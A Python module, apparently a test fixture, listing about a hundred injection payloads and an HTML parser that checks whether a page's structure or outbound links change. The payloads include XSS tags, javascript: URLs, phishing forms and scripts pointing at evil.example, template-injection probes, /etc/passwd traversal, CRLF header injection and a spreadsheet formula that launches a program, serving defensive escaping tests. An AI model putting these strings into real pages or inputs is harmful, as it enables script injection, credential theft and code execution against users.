"""A hundred texts that somebody might put where others read them, and whether a page stays what it is."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import ClassVar

TAGS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>//<!--\nalert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src='x'onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "</form><form action=//evil.example>",
    "<input onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<style>body{display:none}</style>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style='position:fixed;inset:0'>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>here</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>here</a>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></td></tr></table><h1>Owned</h1>",
    "<!--",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?>",
    "<!doctype html>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div hx-get=/people hx-trigger=load>",
    "<div hx-on:load=alert(1)>",
    "<div data-hx-post=/sign-out data-hx-trigger=load>",
    "<b",
    "<",
    ">",
    "&",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
)
QUOTES = (
    '"',
    "'",
    "`",
    "\\",
    "\\'",
    '\\"',
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"/><img src=x onerror=alert(1)>',
    'x\' hx-headers=\'{"X-CSRF-Token": ""}',
    "';alert(1);//",
    '";alert(1);//',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example",
    "https://evil.example/?a=1&b=2#c",
    "../../../etc/passwd",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config }}",
    "{{ session.csrf }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# gone #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%s%n",
    "{0}{user.__class__}",
)
SIGNS = (
    "\u202egnp.exe",
    "\u2066\u2067admin\u2069",
    "\u200badmin\u200d",
    "\ufeffadmin",
    "\u0430dmin",
    "a\u0300\u0301\u0302\u0303" * 20,
    "\U0001f469\u200d\U0001f467\U0001f3fd",
    "\x00",
    "a\x00b",
    "\x1b[2J\x1b[31mred",
    "\r\nSet-Cookie: bucketlift=evil",
    "\u2028alert(1)\u2029",
    "\x7f\x85",
    "=cmd|' /C calc'!A0",
    "x" * 5_000,
)
PAYLOADS = TAGS + QUOTES + ADDRESSES + TEMPLATES + SIGNS
PLAIN = "plain"


def groups(size: int = 10) -> tuple[str, ...]:
    """All of them in fewer texts: addresses alone, for these must lead; what breaks a page does so among others."""
    others = [each for each in PAYLOADS if each not in ADDRESSES]
    return (*ADDRESSES, *(" ".join(others[at : at + size]) for at in range(0, len(others), size)))


class _Skeleton(HTMLParser):
    """Elements and the names of their attributes: what a text must not change."""

    LEADING: ClassVar = frozenset({"href", "src", "action", "formaction"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[object] = []
        self.leads: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parts.append((tag, *(name for name, _ in attrs)))
        self.leads += [value or "" for name, value in attrs if name in self.LEADING]

    def handle_endtag(self, tag: str) -> None:
        self.parts.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.parts.append("comment")


def skeleton(html: str) -> list[object]:
    return _read(html).parts


def leads_away(html: str) -> list[str]:
    """The addresses of a page that are not ours."""
    found = [each for each in _read(html).leads if each]
    ours = [each for each in found if each[0] in "/#?" and each[1:2] not in {"/", "\\"}]
    return [each for each in found if each not in ours]


def _read(html: str) -> _Skeleton:
    reader = _Skeleton()
    reader.feed(html)
    reader.close()
    return reader
